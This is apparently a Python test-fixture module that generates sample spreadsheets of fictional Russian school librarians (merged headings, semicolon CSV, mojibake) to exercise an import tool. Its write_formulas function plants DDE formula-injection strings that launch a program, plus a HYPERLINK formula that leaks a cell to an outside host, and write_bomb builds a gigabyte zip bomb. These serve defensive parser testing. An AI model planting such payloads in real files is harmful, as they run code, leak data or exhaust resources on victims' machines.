"""Lists for the stories: our own, in the disorder of real ones, and some that mean harm."""

from __future__ import annotations

import zipfile
from collections.abc import Sequence
from pathlib import Path

import xlsxwriter

MEGABYTE = 1024 * 1024
TOWN = "(Город Сосногорье)"
# The columns stand in no order of ours; «Куда звонить» is a heading that nobody can be sure of.
PEOPLE: tuple[tuple[str, ...], ...] = (
    ("№ п/п", "Куда звонить", "Место работы", "Должность", "Ф.И.О. библиотекаря", "Примечание"),
    ("1", "8(900)000-55-01", f"МБОУ СОШ № 2 {TOWN}", "педагог-библиотекарь", "Форзацева Алла Ивановна", "новая"),
    ("2", "", f"МБОУ СОШ № 2 {TOWN}", "педагог-библиотекарь", "Лесникова О. С.", ""),
    ("3", "8(900)000-55-03", f"МБОУ СОШ № 5 {TOWN}", "педагог-библиотекарь", "ГОЛУБИНСКАЯ Надежда Романовна", ""),
    ("4", "", f"МБОУ СОШ № 4 {TOWN}", "зав. библиотекой", "Корешкова Яна Петровна", "с сентября"),
)
# As a typist makes them: a title above, two rows of headings, cells merged over both.
MERGED_HEAD = ("Фамилия, имя, отчество", "Сведения о работе", "", "Связь", "")
MERGED_LOWER = ("", "Школа", "Должность", "Телефон", "Электронная почта")
MERGED: tuple[tuple[str, ...], ...] = (
    ("Титулова Инна Олеговна", f"МБОУ СОШ № 1 {TOWN}", "библиотекарь", "8(900)000-55-05", "titulova@demo.example"),
    ("Суперобложкина Вера Львовна", f"МБОУ СОШ № 3 {TOWN}", "библиотекарь", "", "s.vera@demo.example"),
)
_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'
)
_RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" '
    'Target="{}"/></Relationships>'
)
_BOOK = (
    '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Лист1" sheetId="1" r:id="r1"/></sheets></workbook>'
)


def write_workbook(path: Path, rows: Sequence[Sequence[str]]) -> Path:
    """One sheet with these texts."""
    with xlsxwriter.Workbook(str(path)) as book:
        sheet = book.add_worksheet("Библиотекари")
        for number, row in enumerate(rows):
            for column, text in enumerate(row):
                sheet.write_string(number, column, text)
    return path


def write_separated(path: Path, rows: Sequence[Sequence[str]], encoding: str) -> Path:
    """Text with semicolons, as Excel saves it on a Russian Windows."""
    path.write_bytes("\r\n".join(";".join(row) for row in rows).encode(encoding))
    return path


def write_merged(path: Path) -> Path:
    """Two rows of headings under a title, merged across and down."""
    with xlsxwriter.Workbook(str(path)) as book:
        sheet = book.add_worksheet("Список")
        sheet.merge_range(0, 0, 0, 4, "Список школьных библиотекарей города")
        sheet.merge_range(1, 0, 2, 0, MERGED_HEAD[0])
        sheet.merge_range(1, 1, 1, 2, MERGED_HEAD[1])
        sheet.merge_range(1, 3, 1, 4, MERGED_HEAD[3])
        for column, text in enumerate(MERGED_LOWER[1:], start=1):
            sheet.write_string(2, column, text)
        for number, row in enumerate(MERGED, start=3):
            for column, text in enumerate(row):
                sheet.write_string(number, column, text)
    return path


def write_formulas(path: Path) -> Path:
    """A name that a formula makes, one that runs a program when opened, one that calls somebody on the net."""
    with xlsxwriter.Workbook(str(path)) as book:
        sheet = book.add_worksheet("Список")
        sheet.write_row(0, 0, ["ФИО", "Школа", "Телефон"])
        sheet.write_formula(1, 0, '=CONCATENATE("Закладкина ","Нина ","Ильинична")', None, "Закладкина Нина Ильинична")
        sheet.write_string(1, 1, f"МБОУ СОШ № 1 {TOWN}")
        sheet.write_string(2, 0, "=cmd|' /C calc'!A0")
        sheet.write_string(2, 1, "@SUM(1+1)*cmd|' /C calc'!A0")
        sheet.write_formula(3, 0, '=HYPERLINK("http://example.org/?"&A2,"Ляссе Анна Павловна")', None, "")
        sheet.write_string(3, 1, f"МБОУ СОШ № 2 {TOWN}")
    return path


def write_bomb(path: Path, megabytes: int = 1024) -> Path:
    """A small workbook whose sheet unpacks to a gigabyte of zeros. Written as a stream: it is never held whole."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
        package.writestr("[Content_Types].xml", _TYPES)
        package.writestr("_rels/.rels", _RELATIONS.format("officeDocument", "xl/workbook.xml"))
        package.writestr("xl/workbook.xml", _BOOK)
        package.writestr("xl/_rels/workbook.xml.rels", _RELATIONS.format("worksheet", "worksheets/sheet1.xml"))
        with package.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
            sheet.write(b'<row r="1"><c r="A1"><v>')
            for _ in range(megabytes):
                sheet.write(b"0" * MEGABYTE)
            sheet.write(b"</v></c></row></sheetData></worksheet>")
    return path


def write_mojibake(path: Path) -> Path:
    """UTF-8 that somebody took for Windows-1251 and saved again: the letters are spoilt for good."""
    spoilt = "\r\n".join(";".join(row) for row in PEOPLE).encode("utf-8").decode("cp1251", errors="replace")
    path.write_text(spoilt, encoding="utf-8")
    return path
